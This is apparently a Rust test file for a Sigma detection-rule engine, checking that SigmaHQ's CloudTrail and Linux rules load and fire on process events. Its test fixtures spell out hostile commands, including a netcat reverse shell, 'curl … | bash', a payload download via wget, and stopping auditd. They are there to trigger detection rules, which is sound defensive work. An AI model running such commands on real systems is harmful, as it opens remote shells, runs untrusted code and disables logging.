#![allow(clippy::expect_used, clippy::unwrap_used)]
//! SigmaHQ's published rules load and compile: every AWS CloudTrail rule without error, and
//! the Linux process_creation and auditd rules. Needs ../shared/data (fails loudly without it).

use std::path::{Path, PathBuf};
use vigil_sigma::{ProblemLevel, RuleSet, Target};

fn data(rel: &str) -> PathBuf {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data")
        .join(rel);
    assert!(
        p.exists(),
        "test data missing: {} (see shared/data/README.md)",
        p.display()
    );
    p
}

#[test]
fn all_57_cloudtrail_rules_load_without_errors() {
    let (set, problems) = RuleSet::load_dir(&data("sigma/rules/cloud/aws/cloudtrail"));
    let errors: Vec<_> = problems
        .iter()
        .filter(|p| p.level == ProblemLevel::Error)
        .collect();
    for p in &problems {
        eprintln!("{p}");
    }
    assert!(errors.is_empty(), "{errors:#?}");
    assert_eq!(set.len(), 57);
    assert!(set.rules().iter().all(|r| r.target == Target::CloudTrail));
    let stats = set.index_stats();
    eprintln!("{stats:?}");
    // Every CloudTrail rule is filed: on eventName/eventSource, else on another field's value,
    // presence or literal (`cloud_index.rs`); none is evaluated on every event.
    assert_eq!(stats[0].always, 0, "{stats:?}");
}

#[test]
fn linux_process_creation_and_auditd_rules_load() {
    for (dir, target, min) in [
        (
            "sigma/rules/linux/process_creation",
            Target::LinuxProcessCreation,
            122,
        ),
        ("sigma/rules/linux/auditd", Target::LinuxAuditd, 50),
    ] {
        let (set, problems) = RuleSet::load_dir(&data(dir));
        let errors: Vec<_> = problems
            .iter()
            .filter(|p| p.level == ProblemLevel::Error)
            .collect();
        for p in &errors {
            eprintln!("{p}");
        }
        let n = set.rules().iter().filter(|r| r.target == target).count();
        eprintln!(
            "{dir}: {n} rules loaded, {} errors, {} problems; index {:?}",
            errors.len(),
            problems.len(),
            set.index_stats()
        );
        assert!(n >= min, "{dir}: only {n} loaded");
        assert!(errors.len() <= 2, "{dir}: {errors:#?}");
    }
}

#[test]
fn a_broken_file_costs_only_itself() {
    let src = |name: &str, text: &str| vigil_sigma::RuleSource {
        path: PathBuf::from(name),
        text: text.to_string(),
    };
    let good = "title: t\nid: good\nlogsource: {product: aws, service: cloudtrail}\nlevel: high\ndetection:\n  sel: {eventName: StopLogging}\n  condition: sel\n";
    let (set, problems) = RuleSet::from_sources([
        src("bad.yml", "title: [unclosed"),
        src(
            "badcond.yml",
            &good
                .replace("condition: sel", "condition: sel and")
                .replace("id: good", "id: bad2"),
        ),
        src("good.yml", good),
    ]);
    assert_eq!(set.len(), 1);
    let errs: Vec<_> = problems
        .iter()
        .filter(|p| p.level == ProblemLevel::Error)
        .collect();
    assert_eq!(errs.len(), 2, "{problems:#?}");
    assert!(errs[0].path.ends_with("bad.yml"));
    assert!(errs[1].to_string().contains("condition"), "{}", errs[1]);
}

fn process(exe: &str, argv: &[&str]) -> vigil_model::Event {
    use vigil_model::host::{HostEvent, HostEventKind, Process};
    vigil_model::Event {
        id: format!("p-{exe}"),
        time: vigil_model::Timestamp::from_secs(1_700_000_000),
        source: vigil_model::EventSource::Agent,
        body: vigil_model::EventBody::Host(HostEvent {
            host_id: "i-0abc".into(),
            hostname: Some("web-1".into()),
            kind: HostEventKind::ProcessStart {
                process: Process {
                    pid: 4242,
                    ppid: 1,
                    uid: 33,
                    euid: 33,
                    exe: exe.into(),
                    argv: argv.iter().map(|s| s.to_string()).collect(),
                    cwd: Some("/tmp".into()),
                    user: Some("www-data".into()),
                    container_id: None,
                    image: None,
                    pid_ns: None,
                    mnt_ns: None,
                    start_time: None,
                    stdin: None,
                    stdout: None,
                    parent_exe: None,
                },
            },
        }),
    }
}

#[test]
fn linux_rules_fire_on_host_process_events() {
    let (set, _) = RuleSet::load_paths(&[
        data("sigma/rules/linux/process_creation"),
        data("sigma/rules/linux/auditd"),
    ]);
    let titles = |e: &vigil_model::Event| {
        let mut hits = Vec::new();
        set.matches(e, &mut hits);
        hits.iter()
            .map(|h| set.rule(*h).title.clone())
            .collect::<Vec<_>>()
    };
    let shell = titles(&process(
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
    ));
    assert!(shell.iter().any(|t| t.contains("Netcat")), "{shell:?}");
    let uname = titles(&process("/usr/bin/uname", &["uname", "-a"]));
    assert!(
        uname
            .iter()
            .any(|t| t.contains("System Information Discovery")),
        "{uname:?}"
    );
    let quiet = titles(&process("/usr/bin/ls", &["ls", "-l"]));
    assert!(quiet.is_empty(), "{quiet:?}");
}

/// The index, the prefilter and the cheapest-first reordering change nothing: the indexed path
/// gives exactly the hits of evaluating every rule on every event.
#[test]
fn indexed_matching_equals_exhaustive_matching() {
    let (cloud, _) = RuleSet::load_paths(&[
        data("sigma/rules/cloud/aws/cloudtrail"),
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/cloudtrail"),
    ]);
    let text = std::fs::read(data("panther/cloudtrail_rule_tests.jsonl")).unwrap();
    let ctx = vigil_ingest::FileContext::new(&vigil_ingest::Limits::default());
    let mut checked = 0;
    let mut total_hits = 0;
    for line in text.split(|b| *b == b'\n').filter(|l| !l.is_empty()) {
        let v: serde_json::Value = serde_json::from_slice(line).unwrap();
        let (events, _) =
            vigil_ingest::parse_cloudtrail_bytes(v["log"].to_string().as_bytes(), &ctx);
        for e in &events {
            let (mut a, mut b) = (Vec::new(), Vec::new());
            cloud.matches(e, &mut a);
            cloud.matches_exhaustive(e, &mut b);
            assert_eq!(a, b, "{}", v["test_name"]);
            checked += 1;
            total_hits += a.len();
        }
    }
    assert!(checked > 400 && total_hits > 300, "{checked} {total_hits}");

    let (host, _) = RuleSet::load_paths(&[
        data("sigma/rules/linux/process_creation"),
        data("sigma/rules/linux/auditd"),
    ]);
    let cmds: &[&[&str]] = &[
        &["/usr/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
        &["/usr/bin/uname", "uname", "-a"],
        &["/usr/bin/bash", "bash", "-c", "curl http://x/a.sh | bash"],
        &["/usr/bin/chmod", "chmod", "+x", "/tmp/x"],
        &[
            "/usr/bin/python3",
            "python3",
            "-c",
            "import pty; pty.spawn('/bin/sh')",
        ],
        &["/usr/bin/base64", "base64", "-d", "/tmp/p"],
        &["/usr/bin/crontab", "crontab", "-l"],
        &["/usr/sbin/iptables", "iptables", "-F"],
        &[
            "/usr/bin/wget",
            "wget",
            "http://203.0.113.9/x",
            "-O",
            "/tmp/x",
        ],
        &["/usr/bin/ls", "ls"],
        &["/usr/bin/systemctl", "systemctl", "stop", "auditd"],
        &["/usr/bin/setfacl", "setfacl", "-b", "/etc"],
        &["/usr/bin/find", "find", "/", "-perm", "-4000"],
        &["/usr/bin/touch", "touch", "-r", "/bin/ls", "/tmp/x"],
        &["/usr/bin/ssh-keygen", "ssh-keygen", "-t", "rsa"],
        // auditd rules filed under `a0`: the index folds case as the matcher does.
        &["/usr/bin/touch", "TOUCH", "-r", "/bin/ls", "/tmp/x"],
        &["/usr/bin/arecord", "arecord", "-vv", "-fdat"],
        &["/usr/bin/chage", "chage", "--list", "root"],
        // Rules the prefilter reaches through the program's path, not the command line.
        &["/tmp/.x/run", "./run"],
        &["/dev/shm/a", "a"],
        &["/opt/tools/trufflehog", "th", "filesystem", "/"],
    ];
    let mut host_hits = 0;
    for c in cmds {
        let e = process(c[0], &c[1..]);
        let (mut a, mut b) = (Vec::new(), Vec::new());
        host.matches(&e, &mut a);
        host.matches_exhaustive(&e, &mut b);
        assert_eq!(a, b, "{c:?}");
        host_hits += a.len();
    }
    assert!(host_hits >= 8, "{host_hits}");
    eprintln!(
        "exhaustive vs indexed: {checked} cloud events ({total_hits} hits), {} host events ({host_hits} hits)",
        cmds.len()
    );
}

/// `ParentImage` maps to the parent's program the agent records: SigmaHQ's web-shell rule fires
/// on `whoami` under nginx, and stays quiet when the parent is a login shell or unknown.
#[test]
fn parent_image_rules_match_on_the_parent_program() {
    let (set, _) = RuleSet::load_paths(&[data(
        "sigma/rules/linux/process_creation/proc_creation_lnx_webshell_detection.yml",
    )]);
    assert_eq!(set.len(), 1);
    let with_parent = |parent: Option<&str>| {
        let mut ev = process("/usr/bin/whoami", &["whoami"]);
        if let vigil_model::EventBody::Host(h) = &mut ev.body
            && let vigil_model::HostEventKind::ProcessStart { process } = &mut h.kind
        {
            process.parent_exe = parent.map(str::to_string);
        }
        let mut hits = Vec::new();
        set.matches(&ev, &mut hits);
        hits.len()
    };
    assert_eq!(with_parent(Some("/usr/sbin/nginx")), 1);
    assert_eq!(with_parent(Some("/usr/bin/bash")), 0);
    assert_eq!(with_parent(None), 0);
}
